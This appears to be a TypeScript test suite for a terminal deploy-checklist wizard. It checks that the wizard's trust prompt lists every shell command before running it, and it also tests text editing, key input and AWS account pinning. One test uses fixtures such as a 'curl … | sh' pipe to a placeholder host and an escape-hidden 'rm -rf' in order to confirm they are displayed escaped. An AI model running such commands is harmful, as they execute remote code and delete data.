    writeFileSync(path, withCommands(2))
    const ui = open(space, { checklistPath: path, environment: 'dev' })
    ui.resize(80, 20)
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    // The path's lines, inside the border, read as the path.
    const shown = ui
      .frame()
      .split('\n')
      .map((line) => line.replace(/^│ /, '').replace(/ *│$/, ''))
      .join('')
    assert.ok(shown.includes(path), `the path is not shown whole:\n${ui.frame()}`)
    assertFits(ui.frame(), 80, 20)
    await ui.press('n')
  })

  test('the trust prompt lists a command several items run once, with how many run it', async () => {
    const space = workspace(
      CHECKLIST.replace(
        '- [ ] Smoke tests pass',
        [
          ...Array.from(
            { length: 5 },
            (_, i) => `- [ ] Dir ${i + 1} there <!-- check: command run="test -d /tmp" -->`,
          ),
          '- [ ] Migrations run <!-- check: command run="npm run db:migrate" -->',
        ].join('\n'),
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    ui.resize(80, 24)
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    const frame = ui.frame()
    assert.equal(frame.match(/\$ test -d \/tmp/g)?.length, 1, frame)
    assert.match(frame, /│ {5}↳ run by 5 items +│/)
    assert.match(frame, /\$ npm run db:migrate +│\n│ (?! {4}↳)/)
    await ui.press('n')
    await ui.see(/› ○ Change request approved/)
    await ui.press('q')
  })

  test('the trust prompt over 60 commands is no taller than the terminal; paging shows each', async () => {
    const { ui } = await trustPromptOver(60, 80, 20)
    assertFits(ui.frame(), 80, 20)
    assert.match(ui.frame(), /↓ \d+ more/)
    assert.match(ui.frame(), /↑↓ PgUp PgDn scroll: read all 60 commands before you trust them/)
    assert.match(ui.frame(), /Trusting is recorded with the file’s sha256/)
    assert.match(ui.frame(), /y: trust it and run them/)
    const seen = new Set(commandsOn(ui.frame()))
    assert.equal(Math.min(...seen), 1)
    assert.ok(!seen.has(60))
    for (let page = 0; page < 10 && !commandsOn(ui.frame()).includes(60); page++) {
      await ui.press(PAGE_DOWN)
      assertFits(ui.frame(), 80, 20)
      for (const n of commandsOn(ui.frame())) seen.add(n)
    }
    assert.match(ui.frame(), /│ {3}\$ echo smoke-60 +│/)
    assert.deepEqual(
      [...seen].sort((a, b) => a - b),
      Array.from({ length: 60 }, (_, i) => i + 1),
      'every command was on screen on the way down',
    )
    await ui.press(HOME)
    await ui.see(/\$ echo smoke-1\b/)
    await ui.press(END, ARROW_DOWN)
    assert.ok(commandsOn(ui.frame()).includes(60))
    await ui.press('n')
    await ui.see(/› ○ Change request approved/)
    await ui.press('q')
  })

  test('y pressed before every command has been on screen trusts nothing and says how much is below; at the end, y trusts', async () => {
    const { space, ui } = await trustPromptOver(60, 80, 20)
    await ui.press('y')
    await ui.see(/y waits until you have read to the end: \d+ more below \(↓ PgDn End\)/)
    assert.match(ui.frame(), /Trust it on this machine\?/)
    // The same count as the list's own "↓ n more".
    const said = /read to the end: (\d+) more below/.exec(ui.frame())?.[1]
    assert.equal(said, /↓ (\d+) more/.exec(ui.frame())?.[1], ui.frame())
    assert.ok(!existsSync(join(space.env.DEPLOY_WIZARD_HOME, 'trust.json')), 'trusted unread')
    // Read to the end: the hint is the usual one again, and y trusts.
    await ui.press(END)
    await ui.see(/\$ echo smoke-60\b/)
    assert.match(ui.frame(), /read all 60 commands before you trust them/)
    await ui.press(HOME, 'y')
    await ui.see(/› ○ Change request approved/)
    assert.ok(existsSync(join(space.env.DEPLOY_WIZARD_HOME, 'trust.json')), 'not trusted')
    await ui.press('q')
  })

  test('in rows too few for its “↓ n more”, the trust prompt’s hint takes the note’s line: no command is hidden unsaid', async () => {
    // A path that wraps onto seven lines at 40 columns leaves the list one row.
    const folder = join(
      tempDir('ui-deep'),
      ...Array.from({ length: 12 }, (_, i) => `release-folder-${i}`),
    )
    mkdirSync(folder, { recursive: true })
    const path = join(folder, 'two.md')
    writeFileSync(path, withCommands(2))
    const space = { ...workspace(), path }
    const ui = open(space, { checklistPath: path, environment: 'dev' })
    ui.resize(40, 14)
    // The hint, cut at the prompt's width, where the note was.
    await ui.see(/↑↓ PgUp PgDn scroll: read all 2 com…/)
    assert.ok(!ui.frame().includes('Trusting is recorded'), ui.frame())
    assertFits(ui.frame(), 40, 14)
    assert.match(ui.frame(), /\$ echo smoke-1\b/)
    assert.ok(!ui.frame().includes('smoke-2'), ui.frame())
    await ui.press('y')
    await ui.see(/y waits until you have/)
    await ui.press(ARROW_DOWN)
    await ui.see(/\$ echo smoke-2\b/)
    await ui.press('y')
    await ui.see(/› ○ Change request approved/)
    assert.ok(existsSync(join(space.env.DEPLOY_WIZARD_HOME, 'trust.json')), 'not trusted')
    await ui.press('q')
  })

  test('a command longer than the screen is wrapped, its end shown; control characters are escaped', async () => {
    const tail = 'curl -s https://example.invalid/x | sh'
    const long = `echo ${'long-argument '.repeat(12)}&& ${tail}`
    const space = workspace(
      CHECKLIST.replace(
        '- [ ] Smoke tests pass',
        `- [ ] Smoke tests pass <!-- check: command run="${long}" -->\n- [ ] Hidden <!-- check: command run="echo ok\u001b[8m; rm -rf ~/tmp-x" -->`,
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    ui.resize(80, 24)
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    assertFits(ui.frame(), 80, 24)
    const shown = ui
      .frame()
      .split('\n')
      .map((line) => line.replace(/^│ |\s*│$/g, ''))
    const first = shown.findIndex((line) => line.startsWith('  $ echo long-argument'))
    assert.ok(first >= 0, ui.frame())
    // The command's lines, joined again, are the whole command (wrapped at its spaces).
    const rest = shown.slice(
      first + 1,
      shown.findIndex((line, i) => i > first && !/^ {4}\S/.test(line)),
    )
    assert.ok(rest.length >= 2, 'wrapped onto lines of its own')
    const joined = [shown[first] ?? '', ...rest]
      .map((line) => line.replace(/^ {2}\$ | {4}/, ''))
      .join(' ')
    assert.equal(joined.replace(/\s+/g, ' '), long.replace(/\s+/g, ' '))
    assert.match(ui.frame(), /\$ echo ok\\x1b\[8m; rm -rf ~\/tmp-x/)
    assert.ok(!ui.frame().includes('\u001b[8m'), 'the escape reached the terminal')
    await ui.press('n')
    await ui.see(/› ○ Change request approved/)
    await ui.press('q')
  })

  test('asked from a phase, the trust question scrolls through every command too', async () => {
    const { ui } = await trustPromptOver(60, 80, 20)
    await ui.press('n')
    await ui.see(/› ○ Change request approved/)
    await ui.press(ARROW_RIGHT)
    await ui.see(/› ○ Smoke test 1\b/)
    await ui.press('r')
    // A long temporary folder cuts the checklist's path, and "Trust" with it, at the left.
    await ui.see(/(Trust |…).* to run its 60 commands on this machine\?/)
    assert.equal(ui.frame().split('\n').length, 20)
    assertFits(ui.frame(), 80, 20)
    assert.match(ui.frame(), /read all 60 commands before you trust them/)
    assert.match(
      ui.frame(),
      /y: trust it \(recorded; any change to the file asks again\) · n: not now/,
    )
    assert.ok(commandsOn(ui.frame()).includes(1))
    await ui.press(END)
    await ui.see(/\$ echo smoke-60\b/)
    assertFits(ui.frame(), 80, 20)
    await ui.press('n')
    await ui.see(/not trusted: its commands stay manual/)
    await ui.press('q')
  })

  test('a terminal too small for a prompt gets one line saying so, and keys wait for it to grow', async () => {
    const space = workspace(withCommands(3))
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    ui.resize(80, 9)
    await ui.see(/terminal too small/)
    assert.equal(ui.frame(), 'need 40×14: terminal too small (Ctrl-C quits)')
    // Not trusted unseen.
    await ui.press('y')
    ui.resize(80, 24)
    await ui.see(/runs shell commands\. Trust it on this machine\?/)
    assert.deepEqual(commandsOn(ui.frame()), [1, 2, 3])
    await ui.press('n')
    await ui.see(/› ○ Change request approved/)
    await ui.press('q')
  })

  test('what changed, 40 items long, scrolls inside the terminal down to the last change', async () => {
    const space = workspace()
    const { checklist } = await loadChecklist(space.path)
    const earlier = startRun(checklist, 'dev', 'bruno', { env: space.env })
    earlier.answer('before/change-request-approved', 'done')
    await earlier.close()
    const added = Array.from({ length: 40 }, (_, i) => `- [ ] Added step ${i + 1}`).join('\n')
    writeFileSync(
      space.path,
      CHECKLIST.replace('- [ ] Change request approved\n', '').replace(
        '- [ ] Smoke tests pass',
        `- [ ] Smoke tests pass\n${added}`,
      ),
    )
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/Unfinished runs on this machine/)
    await ui.press(ENTER)
    await ui.see(/The checklist changed since this run last saw it/)
    ui.resize(80, 16)
    await ui.see(/↓ \d+ more/)
    assertFits(ui.frame(), 80, 16)
    assert.match(ui.frame(), /\+ added {5}Added step 1\b/)
    assert.doesNotMatch(ui.frame(), /removed/)
    assert.match(ui.frame(), /^enter: continue · ↑↓ PgUp PgDn: scroll$/m)
    await ui.press(END)
    await ui.see(/- removed {3}Change request approved/)
    assertFits(ui.frame(), 80, 16)
    assert.match(ui.frame(), /↑ \d+ more/)
    assert.match(ui.frame(), /\+ added {5}Added step 40\b/)
    await ui.press(PAGE_UP)
    await ui.see(/↓ \d+ more/)
    await ui.press(ENTER)
    await ui.see(/› \S HOME is set|› ○ Database backed up/)
    await ui.press('q')
  })

  test('a checklist picker longer than the terminal says how many more there are', async () => {
    const space = workspace()
    mkdirSync(join(space.dir, 'checklists'))
    for (let i = 1; i <= 30; i++) {
      const name = `service-${String(i).padStart(2, '0')}`
      writeFileSync(
        join(space.dir, 'checklists', `${name}.md`),
        CHECKLIST.replace('title: Screens', `title: Service ${i}`),
      )
    }
    const ui = open(space, {})
    ui.resize(80, 14)
    await ui.see(/Which checklist\?/)
    await ui.see(/… and \d+ more \(↑↓ scrolls the list\)/)
    assertFits(ui.frame(), 80, 14)
    assert.equal(ui.frame().split('\n').length, 14)
    assert.match(ui.frame(), /^❯ Service 1 /m)
    await ui.press(ENTER)
    await ui.see(/Service 1 — which environment\?/)
    ui.screen.unmount()
  })
})

describe('text prompts edit as a shell line does', () => {
  const CTRL_A = '\u0001'
  const CTRL_E = '\u0005'
  const CTRL_K = '\u000B'
  const CTRL_U = '\u0015'
  const CTRL_W = '\u0017'
  const ALT_B = '\u001Bb'
  const ALT_F = '\u001Bf'
  const CTRL_LEFT = '\u001B[1;5D'
  const HOME = '\u001B[H'
  const DELETE = '\u001B[3~'

  test('Ctrl-U and Ctrl-W delete in the name prompt, never typing u or w', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev', operator: undefined })
    await ui.see(/Your name, as the sheet should show it: ana/)
    // The guess is selected: typing replaces it.
    await ui.press('Nina Old')
    await ui.see(/sheet should show it: Nina Old/)
    await ui.press(CTRL_W, 'Newcomer')
    await ui.see(/show it: Nina Newcomer/)
    await ui.press(CTRL_U, 'Nina Newcomer', ENTER)
    await ui.see(/Screens\s+dev\s+Nina Newcomer · dev-/)
    assert.doesNotMatch(ui.frame(), /wNina|uNina/)
    await ui.press('q')
  })

  test('an arrow or Ctrl-E keeps a prefilled value; Ctrl-A, Alt-B/F, Ctrl-←, Home, Delete and Ctrl-K move and cut in it', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev', operator: undefined })
    await ui.see(/Your name, as the sheet should show it: ana/)
    await ui.press(CTRL_E, ' Lima')
    await ui.see(/show it: ana Lima/)
    await ui.press(CTRL_A, 'X', CTRL_K, 'Ana', ALT_F, ' Maria')
    await ui.see(/show it: XAna Maria/)
    await ui.press(CTRL_LEFT, HOME, ALT_F, ALT_B, DELETE, ENTER)
    await ui.see(/Screens\s+dev\s+Ana Maria · dev-/)
    await ui.press('q')
  })

  test('a note typed, cut with Ctrl-K and begun again with Ctrl-A is saved as it reads', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    const id = runIdOn(ui.frame())
    await ui.press('n', 'first draft', CTRL_K, CTRL_A, 'X', ENTER)
    await ui.see(/note: Xfirst draft/)
    const notes = journal(space.runs, id).flatMap((e) => (e.type === 'note-added' ? [e.note] : []))
    assert.deepEqual(notes, ['Xfirst draft'])
    await ui.press('q')
  })
})

describe('keys that arrive together', () => {
  // Typed ahead over a slow link, they reach the wizard in one read.
  const answerOf = (runs: string, id: string, itemId: string) =>
    journal(runs, id).flatMap((e) =>
      e.type === 'item-answered' && e.itemId === itemId ? [[e.state, e.note ?? '']] : [],
    )

  test('each letter is a key of its own', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/✔ HOME is set\s+pass/)
    const id = runIdOn(ui.frame())
    ui.screen.stdin.write('jjd')
    await ui.see(/› ○ Change request approved[\s\S]* {2}✔ Database backed up/)
    assert.deepEqual(answerOf(space.runs, id, 'before/database-backed-up'), [['done', '']])
    await ui.press('q')
  })

  test('a key after arrows acts on the item the arrows moved to', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/✔ HOME is set\s+pass/)
    const id = runIdOn(ui.frame())
    ui.screen.stdin.write(`${ARROW_DOWN}${ARROW_DOWN}d`)
    await ui.see(/› ○ Change request approved[\s\S]* {2}✔ Database backed up/)
    assert.deepEqual(answerOf(space.runs, id, 'before/database-backed-up'), [['done', '']])
    assert.deepEqual(answerOf(space.runs, id, 'before/change-request-approved'), [])
    await ui.press('q')
  })

  test('text and enter together submit the text', async () => {
    const space = workspace()
    const ui = open(space, { checklistPath: space.path, environment: 'dev' })
    await ui.see(/› ○ Change request approved/)
    const id = runIdOn(ui.frame())
    await ui.press('s')
    await ui.see(/Skip: Change request approved/)
    ui.screen.stdin.write('covered by CAB-12\r')
    await ui.see(/ {2}» Change request approved/)
    assert.deepEqual(answerOf(space.runs, id, 'before/change-request-approved'), [
      ['skipped', 'covered by CAB-12'],
    ])
    await ui.press('q')
  })
})

describe('the AWS account the checks run in', () => {
  test("is in the header once STS has said; another account than the environment's is shown in red and stops the checks", async () => {
    const pinned = newAccountId()
    const actual = newAccountId()
    const credentials = await assumeMotoAccount(actual)
    const space = workspace(`---
title: Accounts
environments: [dev, prod]
accounts: { dev: '${pinned}' }
---
## Deploy
- [ ] Sessions table <!-- check: dynamodb.table name=Sessions-dev -->
`)
    // The SDK reads its credentials from the process's own environment, as on a laptop.
    const aws = {
      ...credentialsEnv(credentials),
      AWS_ENDPOINT_URL: backend('moto'),
      AWS_REGION: 'us-east-1',
    }
    const saved = Object.fromEntries(Object.keys(aws).map((name) => [name, process.env[name]]))
    Object.assign(process.env, aws)
    try {
      const ui = open(space, { checklistPath: space.path, environment: 'dev' })
      await ui.see(new RegExp(`aws ${actual} ≠ dev ${pinned}`))
      await ui.see(/wrong AWS account: these credentials are for/)
      await ui.press('q')
    } finally {
      for (const [name, value] of Object.entries(saved)) {
        if (value === undefined) delete process.env[name]
        else process.env[name] = value
      }
    }
  })
})
